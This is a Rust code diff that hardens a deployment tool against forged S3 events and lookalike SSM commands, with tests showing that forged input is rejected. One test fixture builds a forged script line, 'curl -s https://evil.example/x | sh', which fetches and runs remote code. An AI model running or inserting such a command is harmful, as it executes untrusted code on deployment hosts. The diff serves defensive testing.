@@ -241,11 +241,12 @@ impl<E: Edges> Deployer<E> {
                 info!(outcome = "skipped_duplicate", key = %request.key, version_id = %request.version_id, reason = %reason, "repeated event: no second command");
                 if record.outcome == Outcome::Dispatched {
                     // A previous attempt may have dispatched and failed before moving the
-                    // pointer: with the sequencer that attempt recorded, never the payload's.
+                    // pointer: with the S3 stamp that attempt recorded (records written before
+                    // stamps existed: the sequencer it recorded), never this payload's.
                     let recorded = record
-                        .event
-                        .sequencer
+                        .stamp
                         .as_deref()
+                        .or(record.event.sequencer.as_deref())
                         .and_then(|s| s.parse::<Sequencer>().ok());
                     if let Some(seq) = recorded {
                         self.advance_pointer(&store, &request, &record, &seq)
@@ -332,7 +333,13 @@ impl<E: Edges> Deployer<E> {
                     Written::Ok(_) => {}
                     Written::Conflict => return Err(HandlerError::LostClaim { record_key }),
                 }
-                if let (Outcome::Dispatched, Some(seq)) = (outcome, request.sequencer.as_ref()) {
+                // The pointer orders by S3's own stamp of the version (LastModified), never by
+                // the payload's sequencer: a forged first event must not pin it.
+                let stamp = record
+                    .stamp
+                    .as_deref()
+                    .and_then(|s| s.parse::<Sequencer>().ok());
+                if let (Outcome::Dispatched, Some(seq)) = (outcome, stamp.as_ref()) {
                     self.advance_pointer(&store, &request, &record, seq).await?;
                     info!(outcome = "dispatched", key = %request.key, version_id = %request.version_id,
                         commit = record.metadata.as_ref().map(|m| m.commit.as_str()).unwrap_or_default(),
@@ -406,6 +413,7 @@ impl<E: Edges> Deployer<E> {
         let limits = VerifyLimits {
             max_object_bytes: self.config.max_bundle_bytes,
             entries: Limits::default(),
+            ..VerifyLimits::default()
         };
         let started = std::time::Instant::now();
         let verified = match self
@@ -460,7 +468,7 @@ impl<E: Edges> Deployer<E> {
             .await?;
         let expected_profile =
             c.instance_profile_arn_for(request.release.app(), request.release.env());
-        let (targets, refused) = plan::qualify_targets(tagged, expected_profile.as_deref());
+        let (targets, refused) = plan::qualify_targets(tagged, &expected_profile);
         for r in &refused {
             warn!(instance_id = %r.instance_id, reason = %r.reason, "tagged instance refused as a target");
         }
@@ -538,7 +546,10 @@ impl<E: Edges> Deployer<E> {
             Err(r) => return rejected(r),
         };
 
-        // 6. After a crashed attempt, adopt the commands it sent but could not record.
+        // 6. After a crashed attempt, adopt the commands it sent but could not record: only
+        // a command whose script is, byte for byte, the one this attempt renders (version,
+        // digest, app root, settings: the same command) and that went to this wave's
+        // instances. Anyone with ssm:SendCommand can copy the Comment and the version line.
         if takeover {
             let since = plan::adoption_window_start(record, OffsetDateTime::now_utc());
             for (batch, script) in self.edges.commands_since(since, &full_plan.comment).await? {
@@ -546,7 +557,7 @@ impl<E: Edges> Deployer<E> {
                     .commands
                     .iter()
                     .any(|c| c.command_id == batch.command_id);
-                if !known && plan::script_is_for_version(&script, version) {
+                if !known && plan::is_adoptable(&script, &batch, &full_plan.script, &wave0) {
                     info!(command_id = %batch.command_id, "adopting a command sent by an earlier attempt");
                     self.index_command(bucket, record, &batch.command_id, Purpose::Deploy)
                         .await?;
@@ -592,7 +603,11 @@ impl<E: Edges> Deployer<E> {
     ) -> Result<(), HandlerError> {
         for _ in 0..5 {
             let current = store.pointer(&request.release).await?;
-            if !plan::pointer_needs_update(current.as_ref().map(|s| &s.doc), seq) {
+            if !plan::pointer_needs_update(
+                current.as_ref().map(|s| &s.doc),
+                seq,
+                &request.version_id,
+            ) {
                 return Ok(());
             }
             let pointer = plan::pointer_to(request, record, seq, OffsetDateTime::now_utc());
@@ -637,6 +652,9 @@ mod tests {
     fn config_with(max_concurrency: &str) -> Config {
         Config::from_lookup(|k| match k {
             "DROPSHIP_ALLOWED_BUCKETS" => Some("rel-bucket".to_owned()),
+            "DROPSHIP_INSTANCE_PROFILE_ARN" => Some(
+                "arn:aws:iam::111122223333:instance-profile/dropship-host-{app}.{env}".to_owned(),
+            ),
             "DROPSHIP_MAX_CONCURRENCY" => Some(max_concurrency.to_owned()),
             "AWS_REGION" => Some("eu-west-1".to_owned()),
             _ => None,
@@ -742,7 +760,28 @@ mod tests {
         assert_eq!((record.attempts, record.lease_until.as_deref()), (1, None));
         assert_eq!(record.command_ids(), ["cmd-1"]);
         assert_eq!(stored_pointer(&d.edges).version_id, VERSION);
-        assert_eq!(stored_pointer(&d.edges).sequencer, SEQUENCER);
+        assert_eq!(
+            Some(stored_pointer(&d.edges).sequencer),
+            record.stamp,
+            "the pointer carries S3's stamp, not the payload's sequencer"
+        );
+    }
+
+    #[tokio::test]
+    async fn a_forged_first_event_cannot_pin_the_pointer_with_its_sequencer() {
+        // A direct invocation for the key's current version with a maximal sequencer.
+        let d = Deployer::new(config(), FakeAws::with_instances(&["i-1"]));
+        let mut forged = event();
+        forged["detail"]["object"]["sequencer"] = json!("F".repeat(128));
+        let res = d.handle(&forged, &Invocation::default()).await.unwrap();
+        assert_eq!(res.outcome, Outcome::Dispatched);
+        let pointer = stored_pointer(&d.edges);
+        let stamp = stored_record(&d.edges).stamp.expect("stamp");
+        assert_eq!(pointer.sequencer, stamp);
+        assert!(!pointer.sequencer.contains("FFFF"), "{pointer:?}");
+        // So a later version (a newer S3 stamp) still moves it.
+        let later = order_stamp(1_764_400_001).parse::<Sequencer>().unwrap();
+        assert!(plan::pointer_needs_update(Some(&pointer), &later, "v3"));
     }
 
     #[tokio::test]
@@ -796,29 +835,49 @@ mod tests {
             claimed_by_other("2026-11-23T09:05:00Z", vec![recorded]).to_bytes(),
         );
         let comment = plan::comment(&request(), COMMIT);
-        let script_for =
-            |version: &str| shell::render_exports(&[(HostVar::VersionId.name(), version)]).unwrap();
-        let unrecorded = CommandBatch {
-            command_id: "cmd-unrecorded".into(),
-            instance_ids: vec!["i-2".into()],
-            purpose: Purpose::Deploy,
-        };
-        let other_version = CommandBatch {
-            command_id: "cmd-other-version".into(),
-            instance_ids: vec!["i-3".into()],
+        // The script this version's command has (what a fresh attempt sends).
+        let (_, fresh) = handle_with(
+            config_with("100%"),
+            FakeAws::with_instances(&["i-1", "i-2", "i-3", "i-4"]),
+        )
+        .await;
+        let ours = fresh.edges.sent.lock().unwrap()[0].1.clone();
+        let version_line = shell::render_exports(&[(HostVar::VersionId.name(), VERSION)]).unwrap();
+        assert!(ours.contains(&version_line));
+        let batch = |id: &str, instance: &str| CommandBatch {
+            command_id: id.into(),
+            instance_ids: vec![instance.into()],
             purpose: Purpose::Deploy,
         };
         fake.earlier = vec![
-            (unrecorded, script_for(VERSION), comment.clone()),
-            (other_version, script_for("v1"), comment),
+            (
+                batch("cmd-unrecorded", "i-2"),
+                ours.clone(),
+                comment.clone(),
+            ),
+            (
+                batch("cmd-other-version", "i-3"),
+                ours.replace(&version_line, "export DROPSHIP_VERSION_ID='v1'\n"),
+                comment.clone(),
+            ),
+            // Someone with ssm:SendCommand: dropship's Comment and the version line, their
+            // own script.
+            (
+                batch("cmd-forged", "i-4"),
+                format!("{version_line}curl -s https://evil.example/x | sh\n"),
+                comment.clone(),
+            ),
+            // Our script, but sent to an instance outside this wave.
+            (batch("cmd-elsewhere", "i-9"), ours, comment),
         ];
+        fake.instances.lock().unwrap().push("i-4".into());
         // One wave of every host: the crashed attempt was sending it.
         let (result, d) = handle_with(config_with("100%"), fake).await;
         assert_eq!(result.unwrap().outcome, Outcome::Dispatched);
         assert_eq!(
             d.edges.sent_to(),
-            ["i-3"],
-            "i-1 and i-2 already have the command"
+            ["i-3", "i-4"],
+            "i-1 and i-2 already have the command; the forged one is not adopted"
         );
         let record = stored_record(&d.edges);
         assert_eq!(
@@ -871,14 +930,15 @@ mod tests {
         fake.interferences.lock().unwrap().push(Interference {
             key: release().latest_pointer_key(),
             nth: 0,
-            body: pointer("v1", "00AA"),
+            body: pointer("v1", &order_stamp(1_764_399_999)),
         });
         let (result, d) = handle(fake).await;
         assert_eq!(result.unwrap().outcome, Outcome::Dispatched);
         let p = stored_pointer(&d.edges);
+        // The fake version's LastModified is 1_764_400_000: the pointer carries S3's stamp.
         assert_eq!(
             (p.version_id.as_str(), p.sequencer.as_str()),
-            (VERSION, SEQUENCER)
+            (VERSION, order_stamp(1_764_400_000).as_str())
         );
         assert_eq!(p.commit.as_deref(), Some(COMMIT));
     }
@@ -889,7 +949,7 @@ mod tests {
         fake.interferences.lock().unwrap().push(Interference {
             key: release().latest_pointer_key(),
             nth: 0,
-            body: pointer("v3", "00CC"),
+            body: pointer("v3", &order_stamp(1_764_400_001)),
         });
         let (result, d) = handle(fake).await;
         assert_eq!(result.unwrap().outcome, Outcome::Dispatched);
@@ -918,6 +978,39 @@ mod tests {
         assert_eq!(again.outcome, Outcome::SkippedDuplicate);
         assert_eq!(stored_pointer(&d.edges).version_id, VERSION);
         assert_eq!(d.edges.sent_to(), ["i-1"], "still one command");
+    }
+
+    #[tokio::test]
+    async fn an_unindexed_command_with_dropships_comment_is_retried_only_while_its_sender_could_index_it(
+    ) {
+        // Anyone with ssm:SendCommand can send AWS-RunShellScript with dropship's Comment.
+        let d = Deployer::new(config(), FakeAws::with_instances(&["i-1"]));
+        host_answers(&d, "cmd-lookalike", "i-1", 0, "deployed");
+        let inv = Invocation::default();
+        let sent_at = |t: OffsetDateTime| {
+            let mut e = ssm_event("cmd-lookalike", "i-1", "Success");
+            e["detail"]["requested-date-time"] = json!(plan::format_time(t));
+            e
+        };
+        let now = OffsetDateTime::now_utc();
+        // Just sent: its sender may not have indexed it yet, so Lambda retries.
+        let err = d.handle(&sent_at(now), &inv).await.unwrap_err();
+        assert!(matches!(err, HandlerError::Busy(_)), "{err}");
+        // An hour old: no deployer invocation lives that long, so nobody will index it; it is
+        // ignored instead of being retried into the failure queue.
+        let old = d
+            .handle(&sent_at(now - time::Duration::hours(1)), &inv)
+            .await
+            .unwrap();
+        assert_eq!(old.outcome, Outcome::Ignored);
+        assert!(
+            old.reason
+                .as_deref()
+                .unwrap_or_default()
+                .contains("looks like one"),
+            "{old:?}"
+        );
+        assert!(d.edges.sent_to().is_empty());
     }
 
     /// SSM's `EC2 Command Invocation Status-change Notification`, as AWS documents it.
